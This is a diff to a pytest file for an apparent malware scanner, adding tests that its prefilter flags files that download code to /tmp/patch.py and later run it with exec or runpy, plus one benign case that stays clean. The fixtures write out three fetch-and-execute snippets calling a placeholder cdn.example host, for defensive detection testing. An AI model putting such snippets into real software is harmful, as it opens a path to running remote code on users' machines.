@@ -22,7 +22,13 @@ import pytest
 
 from caplet._scan import _filepass
 from caplet._scan._prefilter import Need, prefilter
-from tests._scan.prefilterkit import WholeFile, text_both_ways, tree_both_ways, tree_danger
+from tests._scan.prefilterkit import (
+    WholeFile,
+    kept_by_the_prefilter,
+    text_both_ways,
+    tree_both_ways,
+    tree_danger,
+)
 
 TUNE = Path(__file__).resolve().parents[2] / "benchmarks" / "malware" / "tune"
 STDLIB = Path(sysconfig.get_paths()["stdlib"])
@@ -213,3 +219,49 @@ def test_a_sink_called_outside_the_focus_of_a_large_file_is_checked(
     filtered, whole = tree_both_ways(tmp_path, monkeypatch)
     assert (rule, "pkg/client.py", line) in whole
     assert filtered == whole
+
+
+# -- recall18: a download written to a file on one line, the file run on another ----------
+
+_WRITTEN_AND_RUN = {
+    "write-then-exec": (
+        "import requests\n\nP = '/tmp/patch.py'\n\n"
+        "def refresh(u):\n    open(P, 'wb').write(requests.get(u).content)\n",
+        "def apply():\n    exec(open(P).read())\n",
+    ),
+    "bound-then-written": (
+        "import requests\n\nP = '/tmp/patch.py'\n"
+        "DATA = requests.get('https://cdn.example/p.py').content\n"
+        "with open(P, 'wb') as fh:\n    fh.write(DATA)\n",
+        "exec(compile(open(P).read(), P, 'exec'))\n",
+    ),
+    "write-then-run-path": (
+        "import runpy\nimport urllib.request\n\nP = '/tmp/patch.py'\n"
+        "open(P, 'wb').write(urllib.request.urlopen('https://cdn.example/p.py').read())\n",
+        "runpy.run_path(P)\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("large", [False, True], ids=["small", "large"])
+@pytest.mark.parametrize("shape", sorted(_WRITTEN_AND_RUN))
+def test_a_download_written_and_run_from_the_file_is_kept_by_the_prefilter(
+    shape: str, large: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    head, run = _WRITTEN_AND_RUN[shape]
+    text = head + (_PADDING if large else "") + "\n\n" + run
+    kept_by_the_prefilter(tmp_path, monkeypatch, text)
+    assert "CPL-THR-002" in {rule for rule, _, _ in tree_danger(tmp_path)}
+
+
+def test_a_version_file_run_beside_a_download_written_stays_clean(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # a package's own version module run by exec, and a download saved to a cache file
+    # that nothing runs: no stage, either way
+    text = (
+        "import requests\n\nABOUT = {}\nexec(open('pkg/__about__.py').read(), ABOUT)\n\n"
+        "def fetch(u, p):\n    open(p, 'wb').write(requests.get(u).content)\n"
+    )
+    (tmp_path / "mod.py").write_text(text, encoding="utf-8")
+    assert tree_both_ways(tmp_path, monkeypatch) == ([], [])
